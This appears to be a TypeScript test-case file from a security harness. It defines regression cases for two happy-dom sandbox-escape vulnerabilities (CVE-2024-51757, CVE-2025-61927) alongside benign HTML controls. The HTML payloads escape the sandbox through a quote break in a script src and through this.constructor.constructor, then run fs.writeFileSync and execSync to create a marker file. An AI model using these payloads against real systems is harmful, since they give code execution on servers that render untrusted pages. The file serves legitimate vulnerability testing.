// Scripts of a page that leave it for the process that looks at it.
import { postText, type KnownCase } from '../case.ts';

const ORDINARY = [
  '<p>Hello <b>you</b></p>',
  '<p id="a">one</p><script>document.getElementById("a").textContent = [1, 2].map((n) => n * 2).join()</script>',
  '<pre>require(\'child_process\').execSync("id")</pre><a href="https://localhost/?a=\'+b+\'">more</a>',
];

const browser = (name: string, id: string, title: string, page: (file: string) => string): KnownCase => ({
  app: 'browsers',
  package: name,
  id,
  guard: 'code-injection',
  title,
  attack(places) {
    const file = places.made();
    return {
      requests: [postText(`/browsers/${name}`, page(file), 'text/html')],
      effect: { kind: 'file', path: file },
    };
  },
  benign: () => ORDINARY.map((text) => postText(`/browsers/${name}`, text, 'text/html')),
});

export default [
  browser(
    'happy-dom-15.10.0',
    'CVE-2024-51757',
    'the address of a script ends the quotes in the program that fetches it',
    (file) => `<script src="https://localhost:1/'+require('fs').writeFileSync('${file}','x')+'"></script>`,
  ),
  browser(
    'happy-dom-19',
    'CVE-2025-61927',
    'the constructor of the page leads to Function of the process',
    (file) =>
      `<script>this.constructor.constructor('return process')().mainModule.require('child_process').execSync('touch ${file}')</script>`,
  ),
] satisfies KnownCase[];
